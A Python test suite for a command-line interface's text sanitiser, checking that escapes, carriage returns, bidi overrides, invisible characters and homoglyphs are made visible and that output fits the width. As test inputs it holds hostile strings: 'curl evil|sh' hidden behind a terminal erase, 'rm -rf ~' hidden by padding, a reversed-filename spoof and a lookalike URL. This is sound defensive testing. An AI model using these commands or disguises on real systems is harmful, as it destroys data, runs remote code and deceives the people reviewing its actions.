"""Foreign text is seen, never obeyed; and it fits the width that there is."""

from __future__ import annotations

import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

from etui.surfaces.cli.keyboard import shown
from etui.surfaces.cli.seen import exact, mixed, one_line, safe
from etui.surfaces.cli.show import Flow, Out, cut, step

ANY = st.text(st.characters(), max_size=60)


@given(ANY)
def test_no_text_keeps_a_character_that_a_terminal_obeys_or_hides(text):
    shown = safe(text)
    odd = [char for char in shown if unicodedata.category(char) in ("Cc", "Cs", "Cf", "Zl", "Zp")]
    assert set(odd) <= {
        "\n",
        "\t",
        "\u200d",
        *(char for char in odd if unicodedata.name(char, "").startswith(("ARABIC", "SYRIAC"))),
    }
    assert shown.encode().decode() == shown


@given(ANY)
def test_one_line_is_one_line(text):
    assert len(one_line(text).splitlines()) <= 1


@given(ANY, st.integers(4, 60))
def test_what_is_cut_fits_and_says_so(text, room):
    line = one_line(text)
    shown = cut(line, room)
    assert cell_len(shown) <= room
    assert shown == line or shown.endswith("…")


def test_escapes_carriage_returns_and_turned_text_are_seen():
    assert safe("curl evil|sh\r\x1b[2Kls -la") == "curl evil|sh\\x0d\\x1b[2Kls -la"
    assert safe("safe\u202egnp.exe") == "safe\\u202egnp.exe"
    assert safe("ok\U000e0063\U000e0061") == "ok\\U000e0063\\U000e0061"
    assert safe("a\u200bb\u3164c\u2028d") == "a\\u200bb\\u3164c\\u2028d"
    assert safe("x\ufe01\ufe0f\u200dy") == "x\\ufe01\\ufe0f\\u200dy"


@pytest.mark.parametrize("picture", ["👩‍👩‍👧", "❤️", "👍🏽", "1️⃣", "🏳️‍🌈", "日本語", "é", "🇯🇵"])
def test_emoji_and_words_of_any_language_stay_whole(picture):
    assert safe(picture) == picture


def test_a_person_who_decides_sees_padding_and_length_folded_and_counted():
    shown = exact({"command": "ls" + " " * 500 + "; rm -rf ~", "body": "x" * 5000})
    assert "ls<500 spaces>; rm -rf ~" in shown
    assert "<3100 more characters>" in shown
    assert len(shown.splitlines()) == 4


def test_a_text_of_many_lines_is_shown_whole_with_only_its_padding_folded():
    code = "def f():\n    return 1\n" + "# x\n" * 2000 + "import os" + "\n" * 40 + "\ros.remove('a')"
    card = {"question": "May it?", "choices": [], "kind": "approval", "action": code}
    text = "\n".join(line.plain for line in shown(card))
    assert "def f():\n    return 1\n" in text
    assert text.count("# x") == 2000
    assert "import os\n<39 empty lines>\n\\x0dos.remove('a')" in text


def test_letters_of_two_alphabets_in_one_word_are_flagged():
    (warning,) = mixed({"url": "https://ex\u0430mple.com", "note": "привет and hello"})
    assert "ex\u0430mple.com" in warning
    assert "cyrillic" in warning
    assert mixed({"text": "日本語test, naïve, 5 µm"}) == []


def test_a_step_never_takes_more_than_one_line():
    line = step({"tool": "bad\nname\x1b[1m", "status": "refused", "rule": "find", "seconds": 0.5}, {"a\n": "b\r\n" * 99}, 80)
    assert "\n" not in line.plain
    assert "\x1b" not in line.plain
    assert "refused by find" in line.plain
    assert "refused by you" in step({"tool": "shell", "status": "refused", "rule": "declined"}, {}).plain
    failed = {"tool": "read", "status": "failed", "why": "There is no file."}
    assert step(failed, {}, answer="So sorry.").plain.endswith("failed: There is no file.")
    assert step(failed, {}, answer="There is\nno file. What now?").plain.endswith("failed")


@given(st.lists(st.text(st.sampled_from("ab \n日"), max_size=12), max_size=8), st.integers(4, 30))
def test_flowing_text_breaks_between_words_and_loses_none(pieces, width):
    screen = io.StringIO()
    flow = Flow(Out(file=screen, force_terminal=True, width=width, color_system=None, soft_wrap=True))
    for piece in pieces:
        flow.write(piece)
    flow.end()
    assert screen.getvalue().split() == "".join(pieces).split()
    whole = [line for line in screen.getvalue().splitlines() if " " in line.strip()]
    assert all(cell_len(line.rstrip()) <= width for line in whole)
    assert not flow.open
